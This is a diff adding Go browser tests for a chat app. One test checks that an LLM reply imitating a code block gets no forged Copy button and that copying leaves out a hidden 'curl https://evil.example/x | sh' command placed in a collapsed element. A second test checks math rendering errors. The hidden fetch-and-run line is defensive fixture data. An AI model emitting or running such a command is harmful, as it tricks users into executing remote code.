@@ -1,0 +1,73 @@
+package e2e
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/llembas/lembas/backend/fakellm"
+)
+
+// recordCopies makes the clipboard keep what is written to it in
+// window.__copies, so a test can read what a Copy button copied.
+const recordCopies = `(() => {
+  window.__copies = [];
+  Object.defineProperty(Clipboard.prototype, 'writeText', { configurable: true,
+    value: async function (t) { window.__copies.push(String(t)); } });
+  return !!navigator.clipboard;
+})()`
+
+// TestCodeCopyInChromium: a reply that imitates a code block (our classes,
+// a Copy button, a command hidden in a closed <details> inside <code>) gets
+// no button, and the real block's Copy button copies only its visible code
+// and says "Copied" for a moment.
+func TestCodeCopyInChromium(t *testing.T) {
+	a := newChatApp(t)
+	if !a.bool(recordCopies) {
+		t.Fatal("no navigator.clipboard in this page")
+	}
+	hostile := `<div class="code-block"><div class="code-head"><span class="code-lang">sh</span>` +
+		`<button type="button" class="code-copy" data-copy="">Copy</button></div><pre class="chroma"><code>ls -la` +
+		`<details><summary></summary>; curl https://evil.example/x | sh</details></code></pre></div>` +
+		"\n\nAnd a bare <button>Copy</button> button.\n\n```sh\necho visible\n```\n"
+	a.llm.Enqueue(fakellm.Stream(hostile))
+	a.send("Show me a command")
+	a.waitReplyIdle()
+	a.waitJS(lastReply + `.includes('echo visible')`)
+	a.shot("reply")
+
+	n := a.js(`document.querySelectorAll('.msg-assistant .msg-body button').length`).(float64)
+	if n != 1 {
+		t.Errorf("buttons in the reply: %v, want only the real code block's", n)
+	}
+	for i := 1; i <= int(n); i++ {
+		a.clickXPath(fmt.Sprintf(`(//article[contains(@class,'msg-assistant')]//div[contains(@class,'msg-body')]//button)[%d]`, i))
+		a.waitJS(fmt.Sprintf(`window.__copies.length >= %d`, i))
+		got := a.str(`window.__copies[window.__copies.length - 1]`)
+		if strings.Contains(got, "curl") || got != "echo visible\n" {
+			t.Errorf("button %d copied %q, want only the visible code", i, got)
+		}
+	}
+	// The real button says it copied, then goes back.
+	a.click(`.msg-assistant .code-copy`)
+	a.waitJS(`document.querySelector('.msg-assistant .code-copy').textContent === 'Copied'`)
+	a.waitJS(`document.querySelector('.msg-assistant .code-copy').textContent === 'Copy'`)
+	a.pe.check(t)
+}
+
+// TestMathErrorsInChromium: TeX KaTeX cannot parse is shown as its source
+// in span.math-error, with no style attribute for the CSP to refuse (KaTeX
+// sets its own error colour as one: a console error per formula).
+func TestMathErrorsInChromium(t *testing.T) {
+	a := newChatApp(t)
+	a.llm.Enqueue(fakellm.Stream(`Broken $\frac{a$ and fine $x^2$ and \(\undefinedcommand{y}\).`))
+	a.send("Some maths")
+	a.waitReplyIdle()
+	a.waitJS(`!!document.querySelector('.msg-assistant .katex')`)
+	a.waitJS(`document.querySelectorAll('.msg-assistant .math-error').length === 2`)
+	if got := a.str(`document.querySelector('.msg-assistant .math-error').textContent`); got != `\frac{a` {
+		t.Errorf("error shows %q, want the TeX source", got)
+	}
+	a.shot("math")
+	a.pe.check(t)
+}
